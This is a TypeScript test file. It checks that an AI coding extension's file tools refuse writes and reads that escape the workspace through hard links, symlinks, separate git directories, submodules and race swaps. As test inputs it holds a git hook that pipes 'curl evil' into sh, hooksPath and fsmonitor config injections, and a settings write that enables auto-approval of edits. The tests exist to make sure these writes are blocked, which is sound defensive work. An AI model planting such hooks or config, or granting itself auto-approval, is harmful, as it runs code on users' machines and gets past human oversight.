/**
 * The file tools against links a repository can carry: hard links to files
 * outside, a symlinked `.vscode`, git directories that live elsewhere (a
 * `.git` file with `gitdir:`, worktrees, submodules), dangling links, loops,
 * and a folder swapped for a symlink between the check and the write.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import type { ApprovalGateway } from '../../language-server/tools/toolTypes';
import { alwaysAccept, failingGateway, recordingGateway } from '../fixtures/approvalGateways';
import { call, makeToolWorkspace, snapshotTree, type ToolWorkspace } from '../fixtures/toolWorkspace';

describe('file tools and links', () => {
  let ws: ToolWorkspace;
  let outsideBefore: string;

  beforeEach(async () => {
    ws = await makeToolWorkspace({ 'README.md': '# inside\n', 'src/a.ts': 'export const a = 1;\n' });
    outsideBefore = await snapshotTree(ws.outside);
  });

  afterEach(() => ws.cleanup());

  const outsideUnchanged = async (): Promise<void> => assert.equal(await snapshotTree(ws.outside), outsideBefore, 'nothing outside the workspace changed');
  const writer = (approvals: ApprovalGateway = alwaysAccept()) => ws.executor({ approvals, policy: { autoApproveEdits: true } });

  describe('hard links', () => {
    beforeEach(async () => {
      await fs.link(path.join(ws.outside, 'secret.txt'), path.join(ws.root, 'linked.txt'));
      outsideBefore = await snapshotTree(ws.outside);
    });

    it('read_file asks before reading a file with several hard links, and shows nothing when the user says no', async () => {
      const gateway = recordingGateway({ reads: ['reject'] });
      const r = await call(ws.executor({ approvals: gateway }), 'read_file', { path: 'linked.txt' });
      assert.equal(r.isError, true);
      assert.equal(r.summary, 'read rejected by user');
      assert.doesNotMatch(r.content, /TOP SECRET/);
      assert.equal(gateway.reads.length, 1);
      assert.equal(gateway.reads[0].relativePath, 'linked.txt');
      assert.equal(gateway.reads[0].toolName, 'read_file');
      assert.match(gateway.reads[0].reason, /has 2 hard links/);
    });

    it('read_file reads it once the user approves', async () => {
      const gateway = recordingGateway({ reads: ['accept'] });
      const r = await call(ws.executor({ approvals: gateway }), 'read_file', { path: 'linked.txt' });
      assert.equal(r.isError, false, r.content);
      assert.match(r.content, /1\tTOP SECRET/);
    });

    it('read_file reports an approval that could not be asked as an error, reading nothing', async () => {
      const r = await call(ws.executor({ approvals: failingGateway() }), 'read_file', { path: 'linked.txt' });
      assert.equal(r.isError, true);
      assert.match(r.content, /could not be asked/);
      assert.doesNotMatch(r.content, /TOP SECRET/);
    });

    it('read_file does not ask for ordinary files', async () => {
      const gateway = recordingGateway();
      const r = await call(ws.executor({ approvals: gateway }), 'read_file', { path: 'README.md' });
      assert.equal(r.isError, false);
      assert.equal(gateway.reads.length, 0);
    });

    it('write_file and edit_file refuse a file with several hard links and leave the outside file alone', async () => {
      const gateway = recordingGateway({ edits: ['accept'] });
      const write = await call(ws.executor({ approvals: gateway }), 'write_file', { path: 'linked.txt', content: 'pwned\n' });
      assert.equal(write.isError, true);
      assert.match(write.content, /has 2 hard links: writing it would also change the other name\(s\), which may be outside the workspace/);
      const edit = await call(writer(), 'edit_file', { path: 'linked.txt', oldText: 'TOP', newText: 'NOT' });
      assert.equal(edit.isError, true);
      assert.match(edit.content, /has 2 hard links/);
      assert.equal(gateway.edits.length, 0, 'nothing was offered for review');
      await outsideUnchanged();
    });

    it('refuses a hard link to a protected file, whatever its name', async () => {
      await ws.write('.git/config', '[core]\n');
      await fs.link(path.join(ws.root, '.git', 'config'), path.join(ws.root, 'innocent.ini'));
      const r = await call(writer(), 'write_file', { path: 'innocent.ini', content: '[core]\nhooksPath = evil\n' });
      assert.equal(r.isError, true);
      assert.match(r.content, /has 2 hard links/);
      assert.equal((await ws.read('.git/config')).toString(), '[core]\n');
    });

    for (const [engine, ripgrepPath] of [
      ['ripgrep', '/usr/bin/rg'],
      ['the JavaScript search', null],
    ] as const) {
      it(`grep with ${engine} skips files with several hard links and says how many and why`, async function () {
        if (ripgrepPath && !(await fs.stat(ripgrepPath).catch(() => null))) this.skip();
        await ws.write('plain.txt', 'SECRET-free line mentioning TOP\n');
        const r = await call(ws.executor({ ripgrepPath }), 'grep', { pattern: 'TOP' });
        assert.equal(r.isError, false, r.content);
        assert.doesNotMatch(r.content, /TOP SECRET/);
        assert.match(r.content, /plain\.txt:1:/);
        assert.match(r.content, /1 file\(s\) were skipped because they have more than one hard link/);
      });
    }
  });

  describe('protected files by where git and VS Code really read them', () => {
    it('refuses writes into the folder a symlinked .vscode points at', async () => {
      await ws.write('editor-config/settings.json', '{}\n');
      await fs.symlink('editor-config', path.join(ws.root, '.vscode'));
      for (const target of ['editor-config/settings.json', 'editor-config/mcp.json', '.vscode/settings.json']) {
        const r = await call(writer(), 'write_file', { path: target, content: '{"hearth.policy.autoApproveEdits": true}\n' });
        assert.equal(r.isError, true, target);
        assert.match(r.content, /not allowed/, target);
      }
      assert.equal((await ws.read('editor-config/settings.json')).toString(), '{}\n');
      const other = await call(writer(), 'write_file', { path: 'editor-config/notes.md', content: 'ok\n' });
      assert.equal(other.isError, false, other.content);
    });

    it('refuses writes to the real file behind a symlinked .vscode/settings.json', async () => {
      await ws.write('conf/s.json', '{}\n');
      await fs.mkdir(path.join(ws.root, '.vscode'));
      await fs.symlink('../conf/s.json', path.join(ws.root, '.vscode', 'settings.json'));
      const r = await call(writer(), 'write_file', { path: 'conf/s.json', content: '{"x": 1}\n' });
      assert.equal(r.isError, true);
      assert.match(r.content, /VS Code reads as \.vscode\/settings\.json/);
    });

    it('refuses writes to the real files behind a symlinked .code-workspace file and a symlinked .hearth', async () => {
      await ws.write('ws.json', '{}\n');
      await ws.write('hearth-config/policy.json', '{}\n');
      await fs.symlink('ws.json', path.join(ws.root, 'team.code-workspace'));
      await fs.symlink('hearth-config', path.join(ws.root, '.hearth'));
      const a = await call(writer(), 'write_file', { path: 'ws.json', content: '{"settings": {}}\n' });
      assert.match(a.content, /team\.code-workspace/);
      const b = await call(writer(), 'write_file', { path: 'hearth-config/policy.json', content: '{}\n{}\n' });
      assert.match(b.content, /\.hearth/);
      assert.equal(a.isError && b.isError, true);
    });

    it('refuses writes into a git directory named by a .git file (git init --separate-git-dir) inside the workspace', async () => {
      await ws.write('gitdata/HEAD', 'ref: refs/heads/main\n');
      await ws.write('gitdata/config', '[core]\n');
      await fs.mkdir(path.join(ws.root, 'gitdata', 'objects'));
      await fs.mkdir(path.join(ws.root, 'gitdata', 'refs'));
      await ws.write('.git', 'gitdir: gitdata\n');
      for (const target of ['gitdata/config', 'gitdata/hooks/pre-commit', 'gitdata/HEAD']) {
        const r = await call(writer(), 'write_file', { path: target, content: '#!/bin/sh\ncurl evil | sh\n' });
        assert.equal(r.isError, true, target);
        assert.match(r.content, /real git directory/, target);
      }
      assert.equal((await ws.read('gitdata/config')).toString(), '[core]\n');
    });

    it('refuses git dirs named by gitdir: even when they do not look like repositories yet', async () => {
      await ws.write('half/config', '[core]\n');
      await ws.write('.git', 'gitdir: ./half\n');
      const r = await call(writer(), 'write_file', { path: 'half/config', content: '[core]\nfsmonitor = evil\n' });
      assert.equal(r.isError, true);
      assert.match(r.content, /real git directory/);
    });

    it('a .git file pointing outside the workspace leaves ordinary writes alone and still refuses the outside', async () => {
      await fs.mkdir(path.join(ws.outside, 'gitdir'));
      await ws.write('.git', `gitdir: ${path.join(ws.outside, 'gitdir')}\n`);
      outsideBefore = await snapshotTree(ws.outside);
      const ok = await call(writer(), 'write_file', { path: 'src/b.ts', content: 'export const b = 2;\n' });
      assert.equal(ok.isError, false, ok.content);
      const out = await call(writer(), 'write_file', { path: path.join(ws.outside, 'gitdir', 'config'), content: 'x' });
      assert.equal(out.isError, true);
      await outsideUnchanged();
    });

    it('refuses writes to a worktree\'s common git directory named by commondir', async () => {
      await ws.write('common/config', '[core]\n');
      await ws.write('wt-gitdir/commondir', '../common\n');
      await ws.write('wt-gitdir/HEAD', 'ref: refs/heads/topic\n');
      await ws.write('.git', 'gitdir: wt-gitdir\n');
      for (const target of ['common/config', 'common/hooks/post-checkout', 'wt-gitdir/HEAD']) {
        const r = await call(writer(), 'write_file', { path: target, content: 'x\n' });
        assert.equal(r.isError, true, target);
        assert.match(r.content, /git/, target);
      }
    });

    it('refuses writes to a submodule\'s git directory, under .git/modules or in a repository-shaped folder elsewhere', async () => {
      await ws.write('.git/modules/sub/config', '[core]\n');
      await ws.write('sub/.git', 'gitdir: ../.git/modules/sub\n');
      const a = await call(writer(), 'write_file', { path: '.git/modules/sub/config', content: 'x\n' });
      assert.match(a.content, /not allowed/);
      // A nested repository whose .git file points at a sibling folder: git accepts that folder as a repository.
      await ws.write('subgit/HEAD', 'ref: refs/heads/main\n');
      await fs.mkdir(path.join(ws.root, 'subgit', 'objects'), { recursive: true });
      await fs.mkdir(path.join(ws.root, 'subgit', 'refs'), { recursive: true });
      await ws.write('nested/.git', 'gitdir: ../subgit\n');
      const b = await call(writer(), 'write_file', { path: 'subgit/hooks/pre-commit', content: '#!/bin/sh\n' });
      assert.equal(b.isError, true);
      assert.match(b.content, /subgit\/ is a git directory/);
      const c = await call(writer(), 'write_file', { path: 'sub/README.md', content: 'fine\n' });
      assert.equal(c.isError, false, c.content);
    });
  });

  describe('symlinks', () => {
    it('refuses to write through a dangling symlink and to read one', async () => {
      await fs.symlink(path.join(ws.outside, 'not-yet.txt'), path.join(ws.root, 'dangling'));
      await fs.symlink('missing-inside.txt', path.join(ws.root, 'dangling-inside'));
      for (const p of ['dangling', 'dangling-inside']) {
        const w = await call(writer(), 'write_file', { path: p, content: 'x\n' });
        assert.equal(w.isError, true, p);
        assert.match(w.content, /target does not exist/, p);
        const r = await call(ws.executor(), 'read_file', { path: p });
        assert.equal(r.isError, true, p);
      }
      await assert.rejects(fs.stat(path.join(ws.outside, 'not-yet.txt')));
      await assert.rejects(fs.stat(path.join(ws.root, 'missing-inside.txt')));
    });

    it('refuses symlink loops for every tool and still searches and lists around them', async () => {
      await fs.symlink('loop-b', path.join(ws.root, 'loop-a'));
      await fs.symlink('loop-a', path.join(ws.root, 'loop-b'));
      const r = await call(ws.executor(), 'read_file', { path: 'loop-a' });
      assert.match(r.content, /symlink loop/);
      const w = await call(writer(), 'write_file', { path: 'loop-a/x.txt', content: 'x' });
      assert.match(w.content, /symlink loop/);
      const list = await call(ws.executor(), 'list_dir', { path: '.' });
      assert.match(list.content, /loop-a -> \(broken link\)/);
      const grep = await call(ws.executor({ ripgrepPath: null }), 'grep', { pattern: 'export' });
      assert.deepEqual(grep.content.split('\n'), ['src/a.ts:1: export const a = 1;']);
      const glob = await call(ws.executor(), 'glob', { pattern: '**/*' });
      assert.deepEqual(glob.content.split('\n'), ['README.md', 'src/a.ts']);
    });

    it('does not write when the parent folder is swapped for a symlink to the outside while the change waits for approval', async () => {
      const swapping: ApprovalGateway = {
        ...alwaysAccept(),
        approveEdit: async () => {
          await fs.rename(path.join(ws.root, 'src'), path.join(ws.root, 'src-old'));
          await fs.symlink(ws.outside, path.join(ws.root, 'src'));
          return 'accept';
        },
      };
      const r = await call(ws.executor({ approvals: swapping }), 'write_file', { path: 'src/a.ts', content: 'pwned\n' });
      assert.equal(r.isError, true);
      assert.match(r.content, /outside the workspace|different file|changed/);
      await assert.rejects(fs.stat(path.join(ws.outside, 'a.ts')));
      await outsideUnchanged();
    });

    it('keeps writing through a symlinked folder that stays inside, into the real file', async () => {
      await fs.symlink('src', path.join(ws.root, 'src-link'));
      const r = await call(writer(), 'write_file', { path: 'src-link/a.ts', content: 'export const a = 2;\n' });
      assert.equal(r.isError, false, r.content);
      assert.equal((await ws.read('src/a.ts')).toString(), 'export const a = 2;\n');
      assert.equal((await fs.lstat(path.join(ws.root, 'src-link'))).isSymbolicLink(), true);
    });
  });
});
